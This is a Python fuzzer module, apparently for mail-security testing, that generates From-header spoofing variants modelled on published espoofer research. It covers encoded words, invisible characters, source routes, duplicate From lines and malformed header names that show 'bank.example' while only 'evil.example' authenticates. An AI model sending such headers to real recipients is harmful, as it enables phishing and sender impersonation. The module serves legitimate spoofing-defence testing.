"""ESpoofing-style From header variants (Shen et al., USENIX Security 2021; espoofer).

Every variant makes some mail program show ``bank.example`` (p=reject in the fuzzer's zone) as
the sender, while the only authenticated domain is the attacker's ``evil.example`` (SPF pass
for the envelope sender). The variants are combinations, generated deterministically, of:

- the address that shows bank.example: plain, bare, with a source route, in a quoted local
  part, in a comment, behind a backslash escape, in an encoded word, as a second mailbox,
  as an unquoted "display name", in two angle addresses in either order;
- a display name that shows it: an address or the domain, quoted or not, in encoded words of
  several charsets and encodings (UTF-8, Latin-1, UTF-7, UTF-16), in a comment;
- invisible characters (zero-width space and joiner, soft hyphen, bidi override, BOM, NUL)
  at positions in the address and the name;
- folding, "From :", "FROM:", "from:", tab and no space after the colon, a NUL in the name;
- a second From (before or after, plain or "From :"), no From with a Sender or Resent-From.

:func:`variants` gives (name, header lines) pairs; :func:`controls` gives well-formed From
headers of the attacker's own domain, which are no spoof.
"""

from __future__ import annotations

import base64
import binascii
import itertools
from collections.abc import Callable, Iterator

SPOOF = "bank.example"
ATTACKER = "evil.example"
SHOWN = f"admin@{SPOOF}"
REAL = f"a@{ATTACKER}"


def encoded(text: str, charset: str, encoding: str) -> str:
    """An RFC 2047 encoded word of ``text``."""
    data = text.encode(charset)
    if encoding == "b":
        payload = base64.b64encode(data).decode("ascii")
    else:
        payload = binascii.b2a_qp(data, header=True).decode("ascii").replace("?", "=3F")
    return f"=?{charset}?{encoding}?{payload}?="


#: Address forms: (name, value built from the shown address ``s``).
ADDRESS_FORMS: dict[str, Callable[[str], str]] = {
    "angle": lambda s: f"<{s}>",
    "bare": lambda s: s,
    "named": lambda s: f"Bank Support <{s}>",
    "quoted_name": lambda s: f'"Bank Support" <{s}>',
    "route": lambda s: f"<@{s.rpartition('@')[2]}:{REAL}>",
    "quoted_local": lambda s: f'"{s}"@{ATTACKER}',
    "comment": lambda s: f"{REAL}({s})",
    "comment_angle": lambda s: f"<{REAL}> ({s})",
    "escape": lambda s: f"<{s}\\,@{ATTACKER}>",
    "encoded_alone": lambda s: encoded(s, "utf-8", "b"),
    "encoded_then_real": lambda s: encoded(s, "utf-8", "b") + f",<{REAL}>",
    "two_mailboxes": lambda s: f"<{s}>, <{REAL}>",
    "two_mailboxes_reversed": lambda s: f"<{REAL}>, <{s}>",
    "address_as_name": lambda s: f"{s} <{REAL}>",
    "two_angles": lambda s: f"<{s}> <{REAL}>",
    "two_angles_reversed": lambda s: f"<{REAL}> <{s}>",
    "angle_then_bare": lambda s: f"<{s}>{REAL}",
    "group": lambda s: f"Staff: <{s}>;",
}

#: Display names that show the spoofed domain, in front of the attacker's own address.
DISPLAY_FORMS: dict[str, str] = {
    "addr_quoted": f'"{SHOWN}"',
    "addr_unquoted_dot": f"{SHOWN} .",
    "addr_single_quotes": f"\"'{SHOWN}'\"",
    "domain_quoted": f'"{SPOOF}"',
    "domain_words": f'"{SPOOF} Security"',
    "addr_in_words": f'"Support ({SHOWN})"',
    "addr_utf8_b": encoded(SHOWN, "utf-8", "b"),
    "addr_utf8_q": encoded(f"Support {SHOWN}", "utf-8", "q"),
    "addr_latin1_q": encoded(f"Support {SHOWN}", "iso-8859-1", "q"),
    "addr_utf7_b": encoded(SHOWN, "utf-7", "b"),
    "addr_utf7_q": encoded(SHOWN, "utf-7", "q"),
    "addr_utf16_b": encoded(SHOWN, "utf-16", "b"),
    "domain_utf8_b": encoded(SPOOF, "utf-8", "b"),
}

REAL_FORMS: dict[str, str] = {
    "angle": f"<{REAL}>",
    "angle_nospace": f"<{REAL}>",
    "comment_after": f"<{REAL}> (sent by a colleague)",
}

#: How the header name is written.
NAMES: dict[str, bytes] = {
    "plain": b"From: ",
    "space_colon": b"From : ",
    "upper": b"FROM: ",
    "lower": b"from: ",
    "tab": b"From:\t",
    "nospace": b"From:",
}

#: Invisible characters, inserted at a position of the shown address.
INVISIBLE: dict[str, str] = {
    "zwsp": "\u200b",
    "zwj": "\u200d",
    "shy": "\u00ad",
    "rlo": "\u202e",
    "bom": "\ufeff",
    "nul": "\x00",
}
POSITIONS: dict[str, Callable[[str, str], str]] = {
    "local_start": lambda s, c: c + s,
    "before_at": lambda s, c: s.replace("@", c + "@"),
    "after_at": lambda s, c: s.replace("@", "@" + c),
    "in_domain": lambda s, c: s.replace(".example", c + ".example"),
    "end": lambda s, c: s + c,
}

#: Folding of the whole value (``v``) after the header name.
FOLDS: dict[str, Callable[[str], str]] = {
    "none": lambda v: v,
    "value_on_next_line": lambda v: "\r\n " + v,
    "before_angle": lambda v: v.replace(" <", "\r\n <", 1) if " <" in v else v,
}


def _line(name: bytes, value: str) -> bytes:
    return name + value.encode("utf-8") + b"\r\n"


def _address_family() -> Iterator[tuple[str, bytes]]:
    invisible = [("", "none", "")] + [
        (c, f"{cname}@{pname}", pname) for cname, c in INVISIBLE.items() for pname in POSITIONS
    ]
    for (fname, form), (nname, name), (char, iname, pname), (oname, fold) in itertools.product(
        ADDRESS_FORMS.items(), NAMES.items(), invisible, FOLDS.items()
    ):
        shown = POSITIONS[pname](SHOWN, char) if char else SHOWN
        if char and (nname not in {"plain", "space_colon"} or oname != "none"):
            continue  # invisible characters with the two commonest names, unfolded, only
        yield f"addr:{fname}:{nname}:{iname}:{oname}", _line(name, fold(form(shown)))


def _display_family() -> Iterator[tuple[str, bytes]]:
    invisible = {"none": "", "zwsp": "\u200b", "rlo": "\u202e", "shy": "\u00ad"}
    for (dname, display), (rname, real), (nname, name), (iname, char) in itertools.product(
        DISPLAY_FORMS.items(), REAL_FORMS.items(), NAMES.items(), invisible.items()
    ):
        shown = display.replace("@", char + "@") if char and "=?" not in display else display
        gap = "" if rname == "angle_nospace" else " "
        yield f"display:{dname}:{rname}:{nname}:{iname}", _line(name, f"{shown}{gap}{real}")


def _layout_family() -> Iterator[tuple[str, bytes]]:
    spoofs = {k: ADDRESS_FORMS[k] for k in ("angle", "named", "bare", "quoted_name")}
    real_lines = {
        "plain": f"From: <{REAL}>\r\n".encode(),
        "named": f"From: Alice <{REAL}>\r\n".encode(),
    }
    spoof_names = {
        "plain": b"From: ",
        "space_colon": b"From : ",
        "folded": b" From: ",
        "nul_name": b"From\x00x: ",
        "tab_colon": b"From\t: ",
    }
    for (fname, form), (sname, sline), (rname, rline), order in itertools.product(
        spoofs.items(), spoof_names.items(), real_lines.items(), ("spoof_first", "real_first")
    ):
        spoof = _line(sline, form(SHOWN))
        lines = spoof + b"X-Filler: 1\r\n" + rline if order == "spoof_first" else rline + spoof
        if sname == "folded" and order == "spoof_first":
            lines = b"X-Filler: 1\r\n" + lines  # a folded first line needs a line above it
        yield f"layout:two_from:{fname}:{sname}:{rname}:{order}", lines
    for (fname, form), header in itertools.product(
        spoofs.items(), ("Sender", "Resent-From", "Resent-Sender")
    ):
        yield f"layout:no_from:{header}:{fname}", _line(f"{header}: ".encode(), form(SHOWN))
        both = _line(f"{header}: ".encode(), form(SHOWN)) + _line(b"Reply-To: ", f"<{REAL}>")
        yield f"layout:no_from_reply_to:{header}:{fname}", both


def variants() -> list[tuple[str, bytes]]:
    """Every spoofing variant: (name, the From-related header lines)."""
    out = [*_address_family(), *_display_family(), *_layout_family()]
    names = [n for n, _ in out]
    assert len(names) == len(set(names)), "variant names must be unique"
    return out


def controls() -> list[tuple[str, bytes]]:
    """Well-formed From headers of the attacker's own domain: no spoof, nothing ambiguous."""
    forms = {
        "angle": f"<{REAL}>",
        "bare": REAL,
        "named": f"Alice Smith <{REAL}>",
        "quoted": f'"Smith, Alice" <{REAL}>',
        "encoded_name": encoded("Alice Müller", "utf-8", "q") + f" <{REAL}>",
        "comment_name": f"{REAL} (Alice)",
        "latin1_name": encoded("Zoë", "iso-8859-1", "q") + f" <{REAL}>",
        "same_domain_in_name": f'"{REAL}" <{REAL}>',
    }
    names = {"plain": b"From: ", "lower": b"from: ", "nospace": b"From:"}
    return [
        (f"control:{fname}:{nname}:{oname}", _line(name, fold(form)))
        for (fname, form), (nname, name), (oname, fold) in itertools.product(
            forms.items(), names.items(), FOLDS.items()
        )
    ]


def message(header_lines: bytes, n: int) -> bytes:
    return (
        header_lines + b"To: bob@example.com\r\nSubject: Account notice\r\n"
        b"Date: Mon, 1 Jan 2024 10:00:00 +0000\r\n"
        + f"Message-ID: <fuzz-{n}@{ATTACKER}>\r\n".encode()
        + b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        b"Please review the notice on your account.\r\n"
    )
